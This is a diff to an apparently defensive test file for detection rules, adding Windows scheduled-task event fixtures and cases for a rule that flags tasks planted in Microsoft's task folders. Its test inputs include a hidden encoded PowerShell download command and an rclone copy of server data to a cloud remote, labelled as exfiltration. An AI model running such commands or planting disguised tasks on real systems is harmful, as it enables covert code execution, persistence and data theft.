@@ -131,6 +131,14 @@ def _machine_account(subject_sid: str, subject: str, password_last_set: str) -> 
                          "PasswordLastSet": password_last_set}}
 
 
+def _task(event_id: int, subject: str, subject_sid: str, task: str) -> dict[str, Any]:
+    """Security 4698-4702 as the Windows normaliser gives them (the OTRF recordings' fields)."""
+    action = {4698: "scheduled_task_created", 4699: "scheduled_task_deleted", 4702: "scheduled_task_updated"}[event_id]
+    return {"event_type": "system", "action": action, "outcome": "success", "source": {"host": "WS-1", "user": subject},
+            "unmapped": {"EventID": event_id, "Channel": "Security", "SubjectUserSid": subject_sid,
+                         "SubjectUserName": subject, "TaskName": task}}
+
+
 # (event fields, rule id that must fire or None for "no rule at all")
 SINGLE_EVENT_CASES: list[tuple[str, dict[str, Any], str | None]] = [
     ("encoded powershell", _process("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"),
@@ -190,6 +198,19 @@ SINGLE_EVENT_CASES: list[tuple[str, dict[str, Any], str | None]] = [
     ("a DC rotating its own machine password", _machine_account("S-1-5-18", "SYSTEM", "9/16/2020 11:40:05 PM"), None),
     ("an admin editing a computer account", _machine_account("S-1-5-21-1-2-3-1104", "alice", "-"), None),
     ("anonymous logon, password unchanged", _machine_account("S-1-5-7", "ANONYMOUS LOGON", "-"), None),
+    ("a user changes a task in Windows' folder", _task(4702, "pgustavo", "S-1-5-21-3786818125-1104",
+                                                       "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager"),
+     "PERSIST-TASK-IN-WINDOWS-FOLDER"),
+    ("a user creates one there", _task(4698, "pgustavo", "S-1-5-21-3786818125-1104",
+                                       "\\Microsoft\\Windows\\Maintenance\\Updater"), "PERSIST-TASK-IN-WINDOWS-FOLDER"),
+    ("Windows updates its own task", _task(4702, "PEDRO01$", "S-1-5-18",
+                                           "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan"), None),
+    ("a computer account with a domain SID", _task(4702, "WS-1$", "S-1-5-21-3786818125-1001",
+                                                   "\\Microsoft\\Windows\\GroupPolicy\\{3E0A038B}"), None),
+    ("a user's own task elsewhere", _task(4698, "sbeavers", "S-1-5-21-4228717743-1106",
+                                          "\\OneDrive Standalone Update Task-S-1-5-21-4228717743-1106"), None),
+    ("a user deletes a task there", _task(4699, "pgustavo", "S-1-5-21-3786818125-1104",
+                                          "\\Microsoft\\Windows\\Maintenance\\Updater"), None),
     ("rclone to mega", _process("rclone copy /srv/data mega:dump --transfers 8"), "EXFIL-RCLONE-CLOUD"),
     ("big upload to internet",
      {"event_type": "network", "source": {"ip": "10.10.1.31"}, "destination": {"ip": "185.199.110.153"},
